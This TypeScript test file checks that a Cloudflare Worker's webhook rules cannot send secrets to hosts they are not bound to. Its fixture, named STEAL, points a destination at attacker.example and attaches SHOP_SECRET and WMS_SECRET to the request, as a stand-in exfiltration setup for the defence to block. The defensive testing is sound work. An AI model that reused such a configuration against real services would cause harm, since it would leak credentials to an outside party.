/**
 * Finding 1 of issue 19: whoever can write the rules must not be able to read the Worker's secrets by pointing
 * a destination at a server of their own. Each secret is bound to its hosts by SECRET_HOSTS, and destinations
 * to DESTINATION_HOSTS when set: refused when saved (422 by path) and again at delivery (rules put straight
 * into KV), never showing a value.
 */
import { env } from "cloudflare:workers";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import type { DeadLetter } from "../../src/queues/dead-letter.ts";
import { QUEUES } from "../../src/queues/names.ts";
import { hostMatches, sendProblem } from "../../src/rules/hosts.ts";
import { validateRules } from "../../src/rules/schema.ts";
import { admin, consume, deliveryMessage, EXAMPLE_RULES, expectError, putRules, sentBodies } from "../helpers.ts";

const STEAL = {
  version: 1,
  destinations: {
    ...EXAMPLE_RULES.destinations,
    wms: {
      url: "https://attacker.example/collect",
      headers: { "X-Stolen": { secret: "SHOP_SECRET" } },
      signing: { scheme: "ms-signature", secret: "WMS_SECRET" },
    },
  },
  routes: EXAMPLE_RULES.routes,
};

const put = (body: unknown) => admin("/rules", { method: "PUT", body: JSON.stringify(body) });

describe("host patterns", () => {
  it("match a host exactly, or any subdomain with *.", () => {
    expect(hostMatches("wms.example.com", "wms.example.com")).toBe(true);
    expect(hostMatches("WMS.Example.com.", "wms.example.com")).toBe(true);
    expect(hostMatches("evil-wms.example.com", "wms.example.com")).toBe(false);
    expect(hostMatches("a.shop.example.com", "*.shop.example.com")).toBe(true);
    expect(hostMatches("shop.example.com", "*.shop.example.com")).toBe(false);
    expect(hostMatches("evilshop.example.com", "*.shop.example.com")).toBe(false);
  });

  it("send a secret nowhere that SECRET_HOSTS does not bind it to, and nothing outside DESTINATION_HOSTS", () => {
    const policy = { secretHosts: new Map([["WMS_SECRET", ["wms.example.com"]]]), destinationHosts: ["*.example.com"] };
    expect(sendProblem(policy, "wms.example.com", "WMS_SECRET")).toBeUndefined();
    expect(sendProblem(policy, "shop.example.com", "WMS_SECRET")).toMatch(
      /WMS_SECRET may be sent only to wms.example.com/,
    );
    expect(sendProblem(policy, "shop.example.com", "constructor")).toMatch(/constructor is bound to no host/);
    expect(sendProblem(policy, "elsewhere.test")).toMatch(/not in DESTINATION_HOSTS/);
  });
});

describe("saving rules", () => {
  beforeEach(() => putRules(EXAMPLE_RULES));

  it("refuses with 422, by path, rules that would send a secret to a host it is not bound to", async () => {
    const error = await expectError(await put(STEAL), 422, "rules_invalid");
    expect(error.issues).toEqual([
      {
        path: "destinations.wms.signing.secret",
        message: "secret WMS_SECRET may be sent only to wms.test (SECRET_HOSTS), not to attacker.example",
      },
      {
        path: "destinations.wms.headers.X-Stolen",
        message: "secret SHOP_SECRET may be sent only to shop.test (SECRET_HOSTS), not to attacker.example",
      },
    ]);
    expect(JSON.parse((await env.RULES.get("rules"))!)).toEqual(EXAMPLE_RULES);
  });

  it("refuses a secret that SECRET_HOSTS does not bind at all, and a destination outside DESTINATION_HOSTS", async () => {
    const unbound = structuredClone(EXAMPLE_RULES) as typeof EXAMPLE_RULES & Record<string, unknown>;
    (unbound.destinations.wms as Record<string, unknown>).headers = { "X-Key": { secret: "UNBOUND_KEY" } };
    const error = await expectError(await put(unbound), 422, "rules_invalid");
    expect(error.issues).toEqual([
      {
        path: "destinations.wms.headers.X-Key",
        message: "secret UNBOUND_KEY is bound to no host: the var SECRET_HOSTS must name the hosts it may be sent to",
      },
    ]);
    const validation = validateRules(EXAMPLE_RULES, undefined, {
      secretHosts: new Map(),
      destinationHosts: ["wms.test"],
    });
    expect(validation.ok ? [] : validation.issues.map((i) => i.path)).toEqual([
      "destinations.wms.signing.secret",
      "destinations.shop.url",
      "destinations.shop.signing.secret",
      "destinations.shop.headers.X-Api-Key",
    ]);
  });

  it("checks the same in the dry run's rules and in POST /admin/rules/validate", async () => {
    await expectError(
      await admin("/rules/validate", { method: "POST", body: JSON.stringify(STEAL) }),
      422,
      "rules_invalid",
    );
  });
});

describe("delivering rules written straight into KV", () => {
  let deadLetterSend: ReturnType<typeof vi.spyOn>;
  let fetchSpy: ReturnType<typeof vi.spyOn>;
  beforeEach(async () => {
    await putRules(STEAL);
    fetchSpy = vi.spyOn(globalThis, "fetch").mockImplementation(async () => new Response("ok"));
    deadLetterSend = vi.spyOn(env.DEAD_LETTERS, "send");
  });
  afterEach(() => vi.restoreAllMocks());

  it("sends nothing, and dead-letters at once as host_not_allowed naming the secret, never its value", async () => {
    const result = await consume(QUEUES.deliveries, [deliveryMessage("wms")]);
    expect(fetchSpy).not.toHaveBeenCalled();
    expect(result.explicitAcks).toEqual(["m0"]);
    expect(result.requeued).toEqual([]);
    const [record] = sentBodies<DeadLetter>(deadLetterSend);
    expect(record).toMatchObject({ reason: "host_not_allowed", attempts: 1 });
    expect(record!.detail).toMatch(/WMS_SECRET|SHOP_SECRET/);
    expect(record!.detail).toContain("attacker.example");
    for (const value of [env.SHOP_SECRET, env.WMS_SECRET]) expect(JSON.stringify(record)).not.toContain(value);
  });

  it("refuses a URL kept in a secret whose host its header secrets are not bound to", async () => {
    await putRules({
      version: 1,
      destinations: { hook: { url: { secret: "SLACK_URL" }, headers: { "X-Key": { secret: "HOOK_KEY" } } } },
      routes: [],
    });
    const hook = "https://hooks.slack.test/services/T000/B000/XXXXSECRET";
    await consume(QUEUES.deliveries, [deliveryMessage("hook")], { env: { SLACK_URL: hook, HOOK_KEY: "k" } });
    expect(fetchSpy).not.toHaveBeenCalled();
    const [record] = sentBodies<DeadLetter>(deadLetterSend);
    expect(record).toMatchObject({ reason: "host_not_allowed" });
    expect(record!.detail).toContain("HOOK_KEY");
    expect(JSON.stringify(record)).not.toContain("XXXXSECRET");
  });
});
